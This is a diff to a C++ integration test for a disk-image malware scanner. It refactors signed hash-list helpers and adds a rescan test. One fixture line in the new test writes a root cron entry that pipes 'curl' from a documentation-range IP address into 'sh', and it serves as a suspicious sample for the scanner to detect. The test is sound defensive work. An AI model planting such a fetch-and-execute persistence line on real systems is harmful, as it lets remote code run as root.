@@ -1,6 +1,6 @@
 // SPDX-License-Identifier: Apache-2.0
 // What the provider knows by hash, and what a person should look at: on a real disk, beside a real clamd.
-#include "tests/integration/scan/workshop.hpp"
+#include "tests/integration/scan/rescan_shop.hpp"
 
 #include <bailiff/json.hpp>
 
@@ -8,6 +8,21 @@ namespace bailiff::test {
 namespace {
 
 using Set = std::set<std::string>;
+
+void make_keys(const Workshop& shop) {
+    Workshop::run({"openssl", "genpkey", "-algorithm", "ed25519", "-out", shop.path("key.pem")});
+    Workshop::run({"openssl", "pkey", "-in", shop.path("key.pem"), "-pubout", "-out", shop.path("key.pub")});
+}
+
+/// As a provider makes one: sha256sum, then bailiffctl.
+std::string signed_list(const Workshop& shop, const std::string& kind, const std::vector<std::string>& files) {
+    std::vector<std::string> sums{"sha256sum"};
+    for (const auto& file : files) sums.push_back(shop.tree() + "/" + file);
+    std::ofstream(shop.path(kind + ".sums")) << Workshop::run(sums);
+    std::ofstream(shop.path(kind)) << Workshop::run({BAILIFF_BIN_DIR "/bailiffctl", "hashes", "sign", "--key", shop.path("key.pem"), "--kind", kind, "--name",
+                                                     "our-" + kind, "--version", "3", shop.path(kind + ".sums")});
+    return shop.path(kind);
+}
 
 class ScanFindings : public testing::Test {
   protected:
@@ -17,18 +32,9 @@ class ScanFindings : public testing::Test {
         shop.file("opt/tool", "a tool of the provider's own " + eicar());
         shop.file("srv/plain.txt", "nothing");
         image = shop.ext("disk.raw");
-        Workshop::run({"openssl", "genpkey", "-algorithm", "ed25519", "-out", shop.path("key.pem")});
-        Workshop::run({"openssl", "pkey", "-in", shop.path("key.pem"), "-pubout", "-out", shop.path("key.pub")});
+        make_keys(shop);
     }
-    /// As a provider makes one: sha256sum, then bailiffctl.
-    std::string list(const std::string& kind, const std::vector<std::string>& files) {
-        std::vector<std::string> sums{"sha256sum"};
-        for (const auto& file : files) sums.push_back(shop.tree() + "/" + file);
-        std::ofstream(shop.path(kind + ".sums")) << Workshop::run(sums);
-        std::ofstream(shop.path(kind)) << Workshop::run({BAILIFF_BIN_DIR "/bailiffctl", "hashes", "sign", "--key", shop.path("key.pem"), "--kind", kind, "--name",
-                                                         "our-" + kind, "--version", "3", shop.path(kind + ".sums")});
-        return shop.path(kind);
-    }
+    std::string list(const std::string& kind, const std::vector<std::string>& files) { return signed_list(shop, kind, files); }
     std::vector<std::string> listed(const std::vector<std::string>& lists) const {
         std::vector<std::string> out{"--hash-list-key", shop.path("key.pub")};
         for (const auto& one : lists) out.insert(out.end(), {"--hash-list", one});
@@ -127,6 +133,29 @@ TEST_F(ScanFindings, what_is_suspicious_is_told_with_its_reason_and_changes_no_v
     const auto again = scan_image(cached);
     EXPECT_EQ(again.verdict.known, again.verdict.files);
     EXPECT_EQ(again.verdict.suspicious, run.verdict.suspicious);
+}
+
+TEST(RescanFindings, a_scan_of_what_changed_tells_the_same_suspicions_and_asks_the_lists) {
+    RescanShop shop;
+    shop.file("etc/cron.d/update", "* * * * * root curl -s http://203.0.113.9/x | sh\n");
+    for (const char* name : {"opt/dropper", "opt/tool", "srv/plain"}) shop.file(name, std::string(6000, name[4]) + name);
+    shop.begin(shop.ext("disk.raw"));
+    make_keys(shop);
+    const auto cold = shop.scan();
+    EXPECT_EQ(cold.verdict.suspicious.size(), 1u) << cold.out;
+    const auto again = shop.scan();
+    EXPECT_EQ(again.verdict.unchanged, 3u) << "what is suspicious is read again";
+    EXPECT_EQ(again.verdict.suspicious, cold.verdict.suspicious);
+    // Lists that came after the state was written.
+    const std::vector<std::string> listed{"--dirty-bitmap", "b0", "--hash-list-key", shop.path("key.pub"), "--hash-list", signed_list(shop, "bad", {"opt/dropper"}),
+                                          "--hash-list", signed_list(shop, "good", {"opt/tool"})};
+    for (int i = 0; i < 2; ++i) {
+        const auto run = shop.scan(listed);
+        EXPECT_EQ(run.found(), Set{"disk /opt/dropper"}) << run.out << run.err;
+        EXPECT_EQ(run.verdict.known_good, 1u);
+        EXPECT_EQ(run.verdict.unchanged, 2u) << "the good one and the plain one";
+        EXPECT_EQ(run.verdict.suspicious, cold.verdict.suspicious);
+    }
 }
 
 TEST_F(ScanFindings, other_filesystems_tell_it_too) {
